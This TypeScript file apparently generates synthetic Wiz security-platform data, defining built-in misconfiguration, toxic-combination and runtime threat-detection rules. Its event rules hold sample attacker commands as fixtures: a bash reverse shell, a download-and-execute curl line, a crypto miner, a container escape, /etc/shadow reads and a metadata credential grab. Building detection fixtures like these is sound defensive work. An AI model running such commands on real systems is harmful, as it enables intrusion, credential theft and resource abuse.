/**
 * Built-in rules that raise issues and detections: Controls (toxic combinations and threat controls),
 * Cloud Configuration Rules and Cloud Event Rules. Ids do not depend on the tenant seed, as built-in
 * rule ids are the same in every Wiz tenant.
 */
import { recordId } from "./record-ids.js";
import { KIND } from "./record-kinds.js";
import type { IssueType, RuleDefinition, Severity } from "./types.js";

/** Where a rule applies: a cloud provider, Kubernetes objects, version control, or runtime sensors. */
export type RuleFamily = "AWS" | "Azure" | "GCP" | "OCI" | "K8S" | "VCS" | "RUNTIME" | "ANY";

/** A rule plus what the generator needs to pick resources for it and to fill its Wiz fields. */
export interface TenantRule extends RuleDefinition {
  issueType: IssueType;
  builtin: boolean;
  family: RuleFamily;
  /** Wiz graph types this rule is about; empty = any. */
  subjectTypes: readonly string[];
  techniques: readonly string[];
  risks: readonly string[];
  remediation: string;
  shortId?: string;
  cloudProvider?: string;
  serviceType?: string;
  configurationPath?: string;
  expectedValue?: string;
  currentValue?: string;
  /** Cloud Event Rules: origins that report it, the audit event (or process) name and its source. */
  origins?: readonly string[];
  eventName?: string;
  eventSource?: string;
  commandLine?: string;
}

type ControlRow = [name: string, severity: Severity, types: string[], risks: string[], recommendation: string];
type ConfigRow = [shortId: string, name: string, severity: Severity, family: RuleFamily, type: string, service: string, path: string, expected: string, current: string];
type EventRow = [name: string, severity: Severity, family: RuleFamily, origin: string, techniques: string[], eventName: string, eventSource: string, commandLine: string];

const TOXIC_CONTROLS: readonly ControlRow[] = [
  ["Publicly exposed VM instance with critical vulnerabilities", "CRITICAL", ["VIRTUAL_MACHINE"], ["EXTERNAL_EXPOSURE", "VULNERABILITY"], "Patch the vulnerable packages or restrict inbound access to the instance."],
  ["Publicly exposed VM with high privileges and a known exploited vulnerability", "CRITICAL", ["VIRTUAL_MACHINE"], ["EXTERNAL_EXPOSURE", "HIGH_PRIVILEGES", "VULNERABILITY"], "Remove the excessive role from the instance profile and patch the exploited vulnerability."],
  ["VM instance with cleartext cloud keys allowing access to sensitive data", "HIGH", ["VIRTUAL_MACHINE"], ["SECRET", "SENSITIVE_DATA"], "Remove the cleartext keys from the disk, rotate them, and use instance roles instead."],
  ["Publicly exposed container with a critical network vulnerability", "CRITICAL", ["CONTAINER", "POD"], ["EXTERNAL_EXPOSURE", "VULNERABILITY"], "Rebuild the image on a patched base and restrict the service exposure."],
  ["Privileged container with a high severity vulnerability", "HIGH", ["CONTAINER"], ["HIGH_PRIVILEGES", "VULNERABILITY"], "Drop the privileged flag and patch the image."],
  ["Public bucket containing sensitive data", "CRITICAL", ["BUCKET"], ["EXTERNAL_EXPOSURE", "SENSITIVE_DATA"], "Block public access on the bucket and review the objects that were exposed."],
  ["Bucket allowing public write access", "HIGH", ["BUCKET"], ["EXTERNAL_EXPOSURE", "DATA_INTEGRITY"], "Remove the public write grant from the bucket policy and ACLs."],
  ["Publicly exposed serverless function with admin privileges", "HIGH", ["SERVERLESS"], ["EXTERNAL_EXPOSURE", "HIGH_PRIVILEGES"], "Scope the function's execution role down to the actions it needs."],
  ["Internet-facing serverless function with a vulnerable dependency", "MEDIUM", ["SERVERLESS"], ["EXTERNAL_EXPOSURE", "VULNERABILITY"], "Upgrade the vulnerable dependency and redeploy the function."],
  ["Database exposed to the internet without encryption at rest", "HIGH", ["DATABASE"], ["EXTERNAL_EXPOSURE", "DATA_PROTECTION"], "Disable public accessibility and enable storage encryption."],
  ["Admin role assumable from an external account", "HIGH", ["ACCESS_ROLE"], ["HIGH_PRIVILEGES", "CROSS_ACCOUNT"], "Restrict the trust policy to known principals and require an external id."],
  ["User with console access and admin privileges without MFA", "CRITICAL", ["USER_ACCOUNT"], ["HIGH_PRIVILEGES", "WEAK_AUTHENTICATION"], "Enforce MFA for the user or remove console access."],
  ["Service account with owner role and a key older than 90 days", "MEDIUM", ["SERVICE_ACCOUNT"], ["HIGH_PRIVILEGES", "SECRET"], "Rotate the key and replace the owner role with a narrower role."],
  ["Kubernetes cluster with a public API server and no network policies", "HIGH", ["KUBERNETES_CLUSTER"], ["EXTERNAL_EXPOSURE", "LATERAL_MOVEMENT"], "Restrict API server access to known networks and add default-deny network policies."],
  ["Repository branch with a hardcoded secret granting cloud admin access", "HIGH", ["REPOSITORY_BRANCH", "REPOSITORY"], ["SECRET", "HIGH_PRIVILEGES"], "Revoke the leaked credential and remove it from the repository history."],
  ["Unencrypted volume attached to a publicly exposed VM", "LOW", ["VOLUME"], ["DATA_PROTECTION"], "Migrate the data to an encrypted volume."],
  ["Encryption key without rotation protecting sensitive data", "MEDIUM", ["ENCRYPTION_KEY"], ["DATA_PROTECTION"], "Enable automatic key rotation."],
  ["Storage account allowing shared key access from public networks", "MEDIUM", ["STORAGE_ACCOUNT"], ["EXTERNAL_EXPOSURE", "WEAK_AUTHENTICATION"], "Disable shared key authorisation and restrict network access."],
];

const THREAT_CONTROLS: readonly ControlRow[] = [
  ["Suspicious activity on a publicly exposed VM with high privileges", "HIGH", ["VIRTUAL_MACHINE"], ["THREAT", "HIGH_PRIVILEGES"], "Investigate the activity, isolate the instance and rotate its credentials."],
  ["Threat detected on a resource with access to sensitive data", "HIGH", [], ["THREAT", "SENSITIVE_DATA"], "Investigate the detection and review data access from the resource."],
  ["Communication with a malicious IP from a workload holding cloud credentials", "CRITICAL", ["CONTAINER", "POD", "VIRTUAL_MACHINE"], ["THREAT", "SECRET"], "Block the destination, rotate the workload's credentials and capture forensics."],
  ["Unusual activity by a privileged identity", "MEDIUM", ["USER_ACCOUNT", "ACCESS_ROLE", "SERVICE_ACCOUNT"], ["THREAT", "HIGH_PRIVILEGES"], "Confirm the activity with the identity owner and review recent changes."],
];

const CONFIG_RULES: readonly ConfigRow[] = [
  ["S3-001", "S3 Bucket should block public access", "HIGH", "AWS", "BUCKET", "S3", "publicAccessBlockConfiguration.blockPublicAcls", "true", "false"],
  ["S3-012", "S3 Bucket default encryption should be enabled", "MEDIUM", "AWS", "BUCKET", "S3", "serverSideEncryptionConfiguration.rules", "AES256 or aws:kms", "null"],
  ["S3-025", "S3 Bucket versioning should be enabled", "LOW", "AWS", "BUCKET", "S3", "versioningConfiguration.status", "Enabled", "Suspended"],
  ["EC2-020", "EC2 Instance should not have a public IP address", "MEDIUM", "AWS", "VIRTUAL_MACHINE", "EC2", "networkInterfaces[0].association.publicIp", "null", "54.210.11.87"],
  ["EC2-058", "EC2 Instance should require IMDSv2", "MEDIUM", "AWS", "VIRTUAL_MACHINE", "EC2", "metadataOptions.httpTokens", "required", "optional"],
  ["EC2-101", "Security Group should not allow SSH from 0.0.0.0/0", "HIGH", "AWS", "FIREWALL", "EC2", "ipPermissions[0].ipRanges[0].cidrIp", "not 0.0.0.0/0", "0.0.0.0/0"],
  ["EBS-004", "EBS Volume should be encrypted", "MEDIUM", "AWS", "VOLUME", "EC2", "encrypted", "true", "false"],
  ["IAM-014", "IAM Role should not have the AdministratorAccess policy attached", "HIGH", "AWS", "ACCESS_ROLE", "IAM", "attachedManagedPolicies[*].policyName", "not AdministratorAccess", "AdministratorAccess"],
  ["IAM-027", "IAM User with console access should have MFA enabled", "HIGH", "AWS", "USER_ACCOUNT", "IAM", "mfaDevices", "at least one device", "[]"],
  ["Lambda-008", "Lambda Function should not use a deprecated runtime", "MEDIUM", "AWS", "SERVERLESS", "Lambda", "runtime", "a supported runtime", "python3.7"],
  ["RDS-005", "RDS Instance should not be publicly accessible", "HIGH", "AWS", "DATABASE", "RDS", "publiclyAccessible", "false", "true"],
  ["RDS-011", "RDS Instance should have deletion protection enabled", "LOW", "AWS", "DATABASE", "RDS", "deletionProtection", "true", "false"],
  ["KMS-003", "KMS Key rotation should be enabled", "MEDIUM", "AWS", "ENCRYPTION_KEY", "KMS", "keyRotationEnabled", "true", "false"],
  ["SecretsManager-002", "Secrets Manager secret should be rotated within 90 days", "MEDIUM", "AWS", "SECRET", "Secrets Manager", "rotationEnabled", "true", "false"],
  ["EKS-002", "EKS Cluster endpoint should not be publicly accessible", "HIGH", "AWS", "KUBERNETES_CLUSTER", "EKS", "resourcesVpcConfig.endpointPublicAccess", "false", "true"],
  ["StorageAccount-007", "Storage Account should disallow public blob access", "HIGH", "Azure", "STORAGE_ACCOUNT", "Storage", "properties.allowBlobPublicAccess", "false", "true"],
  ["StorageAccount-021", "Storage Account should accept HTTPS traffic only", "MEDIUM", "Azure", "STORAGE_ACCOUNT", "Storage", "properties.supportsHttpsTrafficOnly", "true", "false"],
  ["VM-015", "Virtual Machine disks should be encrypted with customer-managed keys", "LOW", "Azure", "VIRTUAL_MACHINE", "Compute", "properties.storageProfile.osDisk.managedDisk.diskEncryptionSet", "set", "null"],
  ["NSG-006", "Network Security Group should not allow RDP from the internet", "HIGH", "Azure", "FIREWALL", "Network", "properties.securityRules[0].sourceAddressPrefix", "not *", "*"],
  ["KeyVault-003", "Key Vault should have purge protection enabled", "MEDIUM", "Azure", "SECRET_CONTAINER", "Key Vault", "properties.enablePurgeProtection", "true", "null"],
  ["SQL-009", "Azure SQL Database should have auditing enabled", "LOW", "Azure", "DATABASE", "SQL", "auditingSettings.state", "Enabled", "Disabled"],
  ["AKS-004", "AKS Cluster should have Kubernetes RBAC enabled", "HIGH", "Azure", "KUBERNETES_CLUSTER", "AKS", "properties.enableRBAC", "true", "false"],
  ["GCS-001", "Cloud Storage Bucket should not be publicly accessible", "HIGH", "GCP", "BUCKET", "Cloud Storage", "iamPolicy.bindings[*].members", "no allUsers", "allUsers"],
  ["GCE-010", "Compute Instance should not use the default service account with full API access", "HIGH", "GCP", "VIRTUAL_MACHINE", "Compute Engine", "serviceAccounts[0].scopes", "least-privilege scopes", "https://www.googleapis.com/auth/cloud-platform"],
  ["GCE-031", "Firewall Rule should not allow SSH from 0.0.0.0/0", "HIGH", "GCP", "FIREWALL", "Compute Engine", "sourceRanges", "not 0.0.0.0/0", "0.0.0.0/0"],
  ["CloudSQL-006", "Cloud SQL Instance should require SSL connections", "MEDIUM", "GCP", "DATABASE", "Cloud SQL", "settings.ipConfiguration.requireSsl", "true", "false"],
  ["IAM-GCP-004", "Service Account keys should be rotated within 90 days", "MEDIUM", "GCP", "SERVICE_ACCOUNT", "IAM", "keys[*].validAfterTime", "less than 90 days ago", "212 days ago"],
  ["GKE-012", "GKE Cluster should enable Workload Identity", "MEDIUM", "GCP", "KUBERNETES_CLUSTER", "GKE", "workloadIdentityConfig.workloadPool", "set", "null"],
  ["OCI-ObjectStorage-001", "Object Storage Bucket should not be public", "HIGH", "OCI", "BUCKET", "Object Storage", "publicAccessType", "NoPublicAccess", "ObjectRead"],
  ["OCI-Compute-004", "Compute Instance should enable in-transit encryption for boot volumes", "LOW", "OCI", "VIRTUAL_MACHINE", "Compute", "launchOptions.isPvEncryptionInTransitEnabled", "true", "false"],
  ["Pod-014", "Container should not run as privileged", "HIGH", "K8S", "CONTAINER", "Kubernetes", "spec.containers[0].securityContext.privileged", "false", "true"],
  ["Pod-032", "Container should not allow privilege escalation", "MEDIUM", "K8S", "CONTAINER", "Kubernetes", "spec.containers[0].securityContext.allowPrivilegeEscalation", "false", "true"],
  ["Pod-007", "Pod should not mount the host file system", "HIGH", "K8S", "POD", "Kubernetes", "spec.volumes[0].hostPath.path", "null", "/"],
  ["Namespace-003", "Namespace should have a default-deny network policy", "LOW", "K8S", "NAMESPACE", "Kubernetes", "networkPolicies", "a default-deny policy", "[]"],
  ["ServiceAccount-002", "Service Account token should not be automounted", "LOW", "K8S", "SERVICE_ACCOUNT", "Kubernetes", "automountServiceAccountToken", "false", "true"],
  ["Deployment-009", "Deployment should set CPU and memory limits", "LOW", "K8S", "DEPLOYMENT", "Kubernetes", "spec.template.spec.containers[0].resources.limits", "set", "null"],
  ["GitHub-Branch-001", "Default branch should be protected", "MEDIUM", "VCS", "REPOSITORY_BRANCH", "GitHub", "branchProtection.enabled", "true", "false"],
  ["GitHub-Repo-004", "Repository should enable secret scanning", "LOW", "VCS", "REPOSITORY", "GitHub", "securityAndAnalysis.secretScanning.status", "enabled", "disabled"],
];

const EVENT_RULES: readonly EventRow[] = [
  ["Reverse shell executed", "CRITICAL", "RUNTIME", "WIZ_SENSOR", ["T1059.004"], "execve", "WizSensorAlert##RuleEngine", "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"],
  ["Crypto miner process executed", "HIGH", "RUNTIME", "WIZ_SENSOR", ["T1496"], "execve", "WizSensorAlert##RuleEngine", "/tmp/.x/xmrig --donate-level 1 -o pool.supportxmr.com:443"],
  ["Container escape attempt through cgroup release_agent", "CRITICAL", "RUNTIME", "WIZ_SENSOR", ["T1611"], "execve", "WizSensorAlert##RuleEngine", "sh -c echo /tmp/x > /sys/fs/cgroup/rdma/release_agent"],
  ["Sensitive file read: /etc/shadow", "HIGH", "RUNTIME", "WIZ_SENSOR", ["T1003.008"], "open", "WizSensorAlert##RuleEngine", "cat /etc/shadow"],
  ["Binary dropped and executed in a container", "HIGH", "RUNTIME", "WIZ_SENSOR", ["T1105"], "execve", "WizSensorAlert##RuleEngine", "curl -sL http://203.0.113.77/x -o /tmp/x && chmod +x /tmp/x && /tmp/x"],
  ["Cloud instance metadata accessed from a container", "MEDIUM", "RUNTIME", "WIZ_SENSOR", ["T1552.005"], "connect", "WizSensorAlert##RuleEngine", "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/"],
  ["Timestomping technique was detected", "MEDIUM", "RUNTIME", "WIZ_SENSOR", ["T1070.006"], "execve", "WizSensorAlert##RuleEngine", "touch -r /usr/bin /tmp/uga"],
  ["Connection to a known malicious IP address", "HIGH", "RUNTIME", "WIZ_SENSOR", ["T1071.001"], "connect", "WizSensorAlert##RuleEngine", "python3 -c 'import socket;socket.create_connection((\"192.0.2.66\",8443))'"],
  ["Kubectl exec into a pod", "LOW", "K8S", "WIZ_KUBERNETES_AUDIT_LOGS_COLLECTOR", ["T1609"], "pods/exec create", "k8s.io", ""],
  ["Privileged pod created", "MEDIUM", "K8S", "WIZ_KUBERNETES_AUDIT_LOGS_COLLECTOR", ["T1611"], "pods create", "k8s.io", ""],
  ["Cluster-admin role bound to a service account", "HIGH", "K8S", "WIZ_KUBERNETES_AUDIT_LOGS_COLLECTOR", ["T1098.001"], "clusterrolebindings create", "rbac.authorization.k8s.io", ""],
  ["Root account console login", "HIGH", "AWS", "AWS_CLOUDTRAIL", ["T1078.004"], "ConsoleLogin", "signin.amazonaws.com", ""],
  ["Access key created for another IAM user", "MEDIUM", "AWS", "AWS_CLOUDTRAIL", ["T1098.001"], "CreateAccessKey", "iam.amazonaws.com", ""],
  ["CloudTrail logging stopped", "HIGH", "AWS", "AWS_CLOUDTRAIL", ["T1562.008"], "StopLogging", "cloudtrail.amazonaws.com", ""],
  ["Security group opened to the internet", "MEDIUM", "AWS", "AWS_CLOUDTRAIL", ["T1190"], "AuthorizeSecurityGroupIngress", "ec2.amazonaws.com", ""],
  ["S3 bucket policy changed to allow public access", "HIGH", "AWS", "AWS_CLOUDTRAIL", ["T1530"], "PutBucketPolicy", "s3.amazonaws.com", ""],
  ["Instance credentials used outside AWS", "HIGH", "AWS", "AWS_GUARD_DUTY", ["T1552.005"], "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS", "guardduty.amazonaws.com", ""],
  ["Mass deletion of S3 objects", "HIGH", "AWS", "AWS_S3_DATA_EVENTS", ["T1485"], "DeleteObjects", "s3.amazonaws.com", ""],
  ["Sign-in from an anonymous IP address", "MEDIUM", "Azure", "AZURE_ACTIVE_DIRECTORY", ["T1078.004"], "Sign-in activity", "AzureActiveDirectory", ""],
  ["Owner role assigned to an external user", "HIGH", "Azure", "AZURE_ACTIVITY_LOGS", ["T1098.001"], "Microsoft.Authorization/roleAssignments/write", "Microsoft.Authorization", ""],
  ["Key Vault secrets listed by an unusual identity", "MEDIUM", "Azure", "AZURE_KEY_VAULT", ["T1580"], "SecretList", "Microsoft.KeyVault", ""],
  ["Service account key created", "MEDIUM", "GCP", "GCP_AUDIT_LOGS", ["T1098.001"], "google.iam.admin.v1.CreateServiceAccountKey", "iam.googleapis.com", ""],
  ["Cloud Logging sink deleted", "HIGH", "GCP", "GCP_AUDIT_LOGS", ["T1562.008"], "google.logging.v2.ConfigServiceV2.DeleteSink", "logging.googleapis.com", ""],
  ["Tenancy admin policy created", "HIGH", "OCI", "OCI_AUDIT_LOGS", ["T1098.001"], "CreatePolicy", "com.oraclecloud.identityControlPlane", ""],
  ["Repository visibility changed to public", "HIGH", "VCS", "GITHUB_AUDIT_LOGS", ["T1537"], "repo.access", "github.com", ""],
  ["Personal access token used from a new country", "MEDIUM", "VCS", "GITHUB_AUDIT_LOGS", ["T1078.004"], "oauth_access.create", "github.com", ""],
];

const PROVIDER_OF_FAMILY: Readonly<Record<string, string>> = { AWS: "AWS", Azure: "Azure", GCP: "GCP", OCI: "OCI", K8S: "Kubernetes", VCS: "GitHub" };

/** The built-in rules, in a fixed order (rule indexes in issue columns point into this list). */
export function builtinRules(): TenantRule[] {
  const rules: TenantRule[] = [];
  const ruleId = (): string => recordId(0, KIND.builtinRule, rules.length);
  const controlNumber = (): number => 1000 + rules.length * 7;
  for (const [rows, issueType] of [
    [TOXIC_CONTROLS, "TOXIC_COMBINATION"],
    [THREAT_CONTROLS, "THREAT_DETECTION"],
  ] as const) {
    for (const [name, severity, types, risks, recommendation] of rows) {
      rules.push({
        id: `wc-id-${controlNumber()}`,
        name,
        description: `${name}. This combination of risks makes the resource a likely and valuable target.`,
        __typename: "Control",
        severity,
        issueType,
        builtin: true,
        family: "ANY",
        subjectTypes: types,
        techniques: issueType === "THREAT_DETECTION" ? ["T1078.004"] : [],
        risks,
        remediation: recommendation,
      });
    }
  }
  for (const [shortId, name, severity, family, type, service, path, expected, current] of CONFIG_RULES) {
    rules.push({
      id: ruleId(),
      name,
      description: `This rule checks whether the ${type.toLowerCase().replace(/_/g, " ")} meets the recommended configuration: ${name.toLowerCase()}.`,
      __typename: "CloudConfigurationRule",
      severity,
      issueType: "CLOUD_CONFIGURATION",
      builtin: true,
      family,
      subjectTypes: [type],
      techniques: [],
      risks: ["MISCONFIGURATION"],
      remediation: `Set \`${path}\` to ${expected}. Update the resource in the ${service} console or in its infrastructure-as-code definition.`,
      shortId,
      cloudProvider: PROVIDER_OF_FAMILY[family] ?? family,
      serviceType: service,
      configurationPath: path,
      expectedValue: expected,
      currentValue: current,
    });
  }
  for (const [name, severity, family, origin, techniques, eventName, eventSource, commandLine] of EVENT_RULES) {
    rules.push({
      id: ruleId(),
      name,
      description: `${name}. Wiz matched this behaviour in ${origin} events; it is a common step of real intrusions.`,
      __typename: "CloudEventRule",
      severity,
      issueType: "THREAT_DETECTION",
      builtin: true,
      family,
      subjectTypes: [],
      techniques,
      risks: ["THREAT"],
      remediation: "Investigate the actor and the affected resource; contain the resource if the activity is not expected.",
      origins: [origin],
      eventName,
      eventSource,
      commandLine,
    });
  }
  return rules;
}
